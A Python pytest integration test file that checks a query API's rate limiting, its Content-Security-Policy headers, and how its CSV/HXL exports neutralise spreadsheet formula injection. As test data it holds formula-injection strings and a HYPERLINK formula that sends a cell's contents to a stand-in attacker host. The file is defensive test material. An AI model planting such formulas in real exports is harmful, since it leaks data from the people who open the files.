"""The edges of the query API (issue 16): its per-key rate limit, the dashboard's and the
HTML report's Content-Security-Policy, and CSV/HXL cells a spreadsheet would evaluate,
on the real store app over the real broker and ClickHouse engine."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from fastapi.testclient import TestClient
from httpx import Response

from schemas import TopicNames
from tests.support import store_seed as seed
from tests.support.problems import assert_problem

pytestmark = pytest.mark.integration

FORMULAS = ["-2-3", "=1+1", "+1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]
"""What a partner may put in a text cell that a spreadsheet would evaluate."""
HYPERLINK = '=HYPERLINK("http://evil.invalid/?"&A1,"click")'
BURST = 3
"""Tokens per key: each test below reads with keys of its own."""


@dataclass
class Api:
    client: TestClient
    keys: dict[str, str]

    def get(self, path: str, who: str | None, **params: Any) -> Response:
        headers = {} if who is None else {"Authorization": f"Bearer {self.keys[who]}"}
        response: Response = self.client.get(path, headers=headers, params=params)
        return response


@pytest.fixture(scope="module")
def api(
    bootstrap: str, clickhouse_root: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Api]:
    exempt = [
        seed.hit(rid, "03-02", "madaya", "isil", exempt=True, exempt_reason="designated")
        for rid in FORMULAS
    ]

    def publish(bootstrap: str, names: TopicNames) -> None:
        alert = seed.alert("a-formula", "firing", "03-01", "03-02", summary=HYPERLINK)
        seed.publish_records(bootstrap, names, canonical=exempt, alerts=[alert])

    home = tmp_path_factory.mktemp("edges-home")
    with seed.in_process_store(
        bootstrap,
        clickhouse_root,
        home,
        publish,
        query_rate_limit_per_s=0.01,
        query_rate_limit_burst=BURST,
    ) as running:
        yield Api(running.client, running.keys)


# -- rate limit ----------------------------------------------------------------------------
def test_the_query_api_limits_each_key(api: Api) -> None:
    codes = [api.get("/v1/reference/areas", "sarc").status_code for _ in range(BURST)]
    assert codes == [200] * BURST
    limited = api.get("/v1/reference/areas", "sarc")
    assert_problem(limited, 429)
    assert int(limited.headers["Retry-After"]) >= 1
    # refused requests spend tokens too: the partner's metrics 403 is now a 429
    assert_problem(api.get("/v1/alerts", "sarc"), 429)
    assert api.get("/v1/reference/areas", "wfp").status_code == 200  # another key


# -- Content-Security-Policy ---------------------------------------------------------------
@pytest.mark.parametrize("path", ["/dashboard", "/dashboard/static/dashboard.html"])
def test_the_dashboard_page_has_its_policy_wherever_it_is_served(api: Api, path: str) -> None:
    response = api.client.get(path)
    assert response.status_code == 200
    assert "<html" in response.text
    policy = response.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "script-src 'self'" in policy
    assert response.headers["x-content-type-options"] == "nosniff"


def test_the_html_report_has_a_policy_that_allows_only_its_own_style(api: Api) -> None:
    response = api.get(f"/v1/weekly-report/{seed.WEEK}", "monitor", format="html")
    assert response.status_code == 200
    policy = response.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "script-src" not in policy  # default-src 'none' forbids every script
    assert "style-src 'sha256-" in policy
    assert "'unsafe-inline'" not in policy


# -- CSV and HXL cells a spreadsheet would evaluate ----------------------------------------
def _sheet(text: str) -> Any:
    """The CSV as a spreadsheet imports it: every cell written as openpyxl writes a value,
    which makes a text starting with '=' a formula cell."""
    book = openpyxl.Workbook()
    sheet = book.active
    for row in csv.reader(io.StringIO(text)):
        sheet.append(row)
    saved = io.BytesIO()
    book.save(saved)
    return openpyxl.load_workbook(io.BytesIO(saved.getvalue())).active


@pytest.mark.parametrize("fmt", ["csv", "hxl"])
def test_formula_shaped_cells_are_neutralised(api: Api, fmt: str) -> None:
    response = api.get(f"/v1/weekly-report/{seed.WEEK}", "taskforce", format=fmt)
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    ids = {r["report_id"] for r in rows if r["section"] == "exempt"}
    assert ids == {"'" + rid for rid in FORMULAS}
    (alert,) = (r for r in rows if r["section"] == "alert")
    assert alert["description"] == f"violation_spike: {HYPERLINK}"  # not at a cell's start
    cells = [c for row in _sheet(response.text).iter_rows() for c in row if c.value is not None]
    assert cells
    assert not [c.value for c in cells if c.data_type == "f"]
    for cell in cells:
        value = str(cell.value)
        assert not value.startswith(("=", "+", "@", "\t", "\r")), value
        # a leading '-' is left only on numbers we wrote (a negative change)
        assert not value.startswith("-") or value.lstrip("-").isdigit(), value


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_evaluates_no_cell_of_the_csv(api: Api, tmp_path: Path) -> None:
    """A real spreadsheet engine: LibreOffice headless imports the CSV (as a user opening
    it would) and saves it as xlsx; no cell may have become a formula or a number."""
    response = api.get(f"/v1/weekly-report/{seed.WEEK}", "taskforce", format="csv")
    source = tmp_path / "weekly.csv"
    source.write_text(response.text)
    subprocess.run(
        ["soffice", "--headless", "--norestore", f"-env:UserInstallation=file://{tmp_path}/lo",
         "--convert-to", "xlsx", "--outdir", str(tmp_path), str(source)],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    sheet = openpyxl.load_workbook(tmp_path / "weekly.xlsx").active
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    column = header.index("report_id")
    cells = [row[column] for row in sheet.iter_rows(min_row=2) if row[column].value]
    assert len(cells) == len(FORMULAS)
    assert all(c.data_type == "s" for c in cells), [(c.value, c.data_type) for c in cells]
    shown = {str(c.value).lstrip("'") for c in cells}
    assert shown == {rid.replace("\r", "\n") for rid in FORMULAS}  # LibreOffice reads CR as LF


def test_json_keeps_what_partners_wrote(api: Api) -> None:
    body = api.get(f"/v1/weekly-report/{seed.WEEK}", "admin", format="json").json()
    assert {e["report_id"] for e in body["exempt"]} == set(FORMULAS)
